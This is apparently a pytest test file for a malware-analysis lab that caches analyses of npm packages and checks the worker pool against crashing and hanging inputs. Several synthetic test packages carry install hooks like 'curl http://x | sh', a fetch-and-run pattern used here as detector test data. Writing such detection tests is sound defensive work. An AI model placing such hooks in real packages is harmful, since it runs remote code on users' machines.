from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest
from corpus_helpers import npm_tgz

from malseq_lab.corpus.analyse import analyse_samples
from malseq_lab.corpus.cache import AnalysisCache
from malseq_lab.corpus.records import Sample


def _sample(tmp_path: Path, name: str, data: bytes, label: int = 1) -> Sample:
    p = tmp_path / f"{name}.tgz"
    p.write_bytes(data)
    return Sample("npm", name, "1.0.0", label, "t", "malicious", str(p), hashlib.sha256(data).hexdigest())


def test_analyse_fills_cache_then_hits(tmp_path: Path) -> None:
    good = _sample(tmp_path, "hooky", npm_tgz("hooky", "1.0.0", {"postinstall": "curl http://x | sh"}))
    bad = _sample(tmp_path, "broken", b"this is not an archive at all" * 20)
    logs: list[str] = []
    with AnalysisCache(tmp_path / "c.sqlite") as cache:
        stats = analyse_samples([good, bad, good], cache, in_process=True, log=logs.append)
        assert (stats.total, stats.analysed, stats.errors, stats.cached) == (2, 2, 1, 0)
        row = cache.get(good.sha256)
        assert row is not None and row.ok and row.ecosystem == "npm"
        assert "npm_install_script" in row.behaviour_ids()
        assert row.sequencer == "malseq.analysis.analyse" and row.sequence_ids
        assert row.fingerprint is not None
        err = cache.get(bad.sha256)
        assert err is not None and not err.ok and err.error_kind
        again = analyse_samples([good, bad], cache, in_process=True, log=logs.append)
        assert (again.cached, again.analysed) == (2, 0)
        retried = analyse_samples([good, bad], cache, in_process=True, retry_errors=True, log=logs.append)
        assert (retried.cached, retried.analysed) == (1, 1)


def test_worker_pool(tmp_path: Path) -> None:
    samples = [_sample(tmp_path, f"p{i}", npm_tgz(f"p{i}", "1.0.0", {"preinstall": f"node x{i}.js"})) for i in range(3)]
    with AnalysisCache(tmp_path / "c.sqlite") as cache:
        stats = analyse_samples(samples, cache, jobs=2, log=lambda m: None)
        assert stats.analysed == 3 and stats.errors == 0 and stats.killed == 0
        assert all(cache.get(s.sha256).ok for s in samples)


def test_cache_rows_hold_what_a_scan_scores(tmp_path: Path) -> None:
    """The cached model input is `malseq.analysis.analyse`'s, the text `malseq scan` feeds the scorer."""
    from malseq.scan import ScanOptions, scan

    data = npm_tgz("hooky", "1.0.0", {"postinstall": "node x.js", "preinstall": "curl http://x | sh"})
    s = _sample(tmp_path, "hooky", data)
    with AnalysisCache(tmp_path / "c.sqlite") as cache:
        analyse_samples([s], cache, in_process=True, log=lambda m: None)
        row = cache.get(s.sha256)
    scanned = scan([s.path], ScanOptions(score=False))[0]
    assert row is not None and row.ok and scanned.sequence is not None and scanned.model_input
    assert row.sequence_text == scanned.model_input
    assert row.sequence_ids == tuple(scanned.sequence.ids)


def test_a_change_to_the_analysis_code_misses_the_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import malseq.analysis

    s = _sample(tmp_path, "hooky", npm_tgz("hooky", "1.0.0", {"postinstall": "node x.js"}))
    with AnalysisCache(tmp_path / "c.sqlite") as cache:
        assert analyse_samples([s], cache, in_process=True, log=lambda m: None).analysed == 1
        assert analyse_samples([s], cache, in_process=True, log=lambda m: None).cached == 1
        # other analysis code (its key) finds no row and analyses again; nobody bumped a constant
        monkeypatch.setattr(malseq.analysis, "analysis_key", lambda: "0123456789abcdef")
        again = analyse_samples([s], cache, in_process=True, log=lambda m: None)
        assert (again.cached, again.analysed) == (0, 1)
        assert "+analysis.0123456789abcdef+" in cache.get(s.sha256).extractor_version


def analyse_or_misbehave(task: Any) -> Any:
    """Module level so spawned workers can import it: "crash" aborts the worker, "hang" sleeps."""
    import os
    import time

    from malseq_lab.corpus.analyse import analyse_task

    if task.name == "crash":
        os.abort()
    if task.name == "hang":
        time.sleep(60)
    return analyse_task(task)


def test_pool_survives_crashing_and_hanging_packages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from malseq_lab.corpus import analyse

    monkeypatch.setattr(analyse, "RETRY_PAUSE_SECONDS", 0.1)
    archive = tmp_path / "ok.tgz"
    archive.write_bytes(npm_tgz("ok", "1.0.0", {"postinstall": "curl http://x | sh"}))
    tasks = [analyse.Task(f"{i:064x}", str(archive), "npm", name, "1.0", "", 10.0)
             for i, name in enumerate(["ok1", "crash", "hang", "ok2"])]
    rows: dict[str, Any] = {}
    names = {t.sha256: t.name for t in tasks}
    # the limit leaves a loaded machine room to start a worker and analyse the good packages
    killed = analyse._run_pool(tasks, 2, hard_limit=15.0, on_result=lambda r: rows.__setitem__(names[r.sha256], r),
                               analyse=analyse_or_misbehave)
    assert set(rows) == {"ok1", "crash", "hang", "ok2"}
    assert rows["crash"].error_kind == "WorkerDied" and "SIGABRT" in rows["crash"].error_message
    assert rows["hang"].error_kind == "HardTimeout"
    assert rows["ok1"].ok and rows["ok2"].ok
    assert killed == 4  # three tries of the crashing package, one of the hanging one
